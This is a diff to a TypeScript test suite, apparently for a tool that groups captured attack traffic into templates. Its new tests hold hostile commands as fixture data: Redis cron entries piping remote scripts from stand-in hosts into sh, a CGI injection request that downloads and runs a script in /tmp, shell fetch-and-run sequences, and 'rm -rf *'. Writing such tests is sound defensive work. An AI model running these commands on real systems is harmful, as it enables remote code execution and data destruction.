@@ -168,6 +168,28 @@ describe('variable parts share a template', () => {
     expect(templateSkeleton(chain(150))).toContain('$<n>\nx<n>_<n>\n$<n>\n');
   });
 
+  it('host names and addresses inside URLs, in Redis, shell commands and raw text', () => {
+    const cron = (url: string) => event('redis',
+      resp('SET', 'k', `\n*/1 * * * * curl ${url}|sh\n`));
+    same(cron('http://c2.example.com/b.sh'), cron('http://evil.example.net/b.sh'),
+      cron('http://198.51.100.7:8080/b.sh'));
+    same(shell('wget http://c2.example.com/b.sh'), shell('wget http://[2001:db8::5]/b.sh'));
+    const raw = (url: string) => event('unknown', Buffer.from(`\x00\x01GET ${url}\x00`));
+    // An unknown payload's skeleton holds its length: the two names are as long.
+    same(raw('http://c2.example.com/x'), raw('http://ex.example.org/x'));
+  });
+
+  it('the file name a URL fetches, where it is fetched and where it is run', () => {
+    const exploit = (name: string) => http([`GET /cgi-bin/x.cgi?cmd=cd+/tmp;wget+` +
+      `http://198.51.100.5/${name}.sh;chmod+777+${name}.sh;./${name}.sh HTTP/1.1`,
+    'Host: example.com']);
+    same(exploit('kqhzrw'), exploit('pwxjta'), exploit('x5_3'));
+    same(shell('cd /tmp', 'wget http://192.0.2.1/kqhzrw.sh', 'sh kqhzrw.sh'),
+      shell('cd /tmp', 'wget http://192.0.2.1/pwxjta.sh', 'sh pwxjta.sh'));
+    same(event('redis', resp('SET', 'a5', '*/1 * * * * wget -q -O- http://192.0.2.1/a5.sh|sh')),
+      event('redis', resp('SET', 'a150', '*/1 * * * * wget -q -O- http://192.0.2.1/a150.sh|sh')));
+  });
+
   it('user names and passwords of line protocols', () => {
     same(event('ftp', 'USER anonymous\r\nPASS guest@\r\n'),
       event('ftp', 'USER root\r\nPASS 1\r\n'));
@@ -260,6 +282,12 @@ describe('what differs gets another template', () => {
     differ(rpc('1'), rpc('1', 'eth_getBalance'));
   });
 
+  it('another extension or path of a fetched file, another fetch command', () => {
+    differ(shell('wget http://192.0.2.1/a.sh'), shell('wget http://192.0.2.1/a.pl'));
+    differ(shell('wget http://192.0.2.1/a.sh'), shell('wget http://192.0.2.1/bins/a.sh'));
+    differ(shell('wget http://192.0.2.1/a.sh; sh a.sh'), shell('wget http://192.0.2.1/a.sh'));
+  });
+
   it('another command, or one more', () => {
     differ(shell('wget http://192.0.2.1/a.sh'), shell('curl http://192.0.2.1/a.sh'));
     differ(shell('cd /tmp'), shell('cd /tmp', 'rm -rf *'));
@@ -325,7 +353,9 @@ describe('templateOf edge cases', () => {
       Buffer.alloc(size, '::a'), Buffer.alloc(size, '%2'), Buffer.alloc(size, '\\x4'),
       Buffer.alloc(size, 'aB3+'), Buffer.alloc(size, '9'), Buffer.alloc(size, '"id":"'),
       Buffer.alloc(size, '@['), Buffer.alloc(size, '2024-01-01T'), Buffer.alloc(size, '\r\n'),
-      Buffer.alloc(size, 'AUTH LOGIN\n'), Buffer.alloc(size, '*9\r\n'),
+      Buffer.alloc(size, 'AUTH LOGIN\n'), Buffer.alloc(size, '*9\r\n'), Buffer.alloc(size, 'a://b/'),
+      Buffer.alloc(size, 'x%3A%2F%2Fa%2F'), Buffer.alloc(size, 'h://a/a.s a.s a'),
+      Buffer.from(`${'h://a/b.c '.repeat(16)}${'b_'.repeat(size / 2)}`),
       Buffer.from(fc.sample(fc.uint8Array({ minLength: size, maxLength: size }), 1)[0] ?? [])];
     for (const protocol of ['http', 'sip', 'redis', 'smtp', 'jsonrpc', 'smb', 'unknown']) {
       for (const bytes of hostile) {
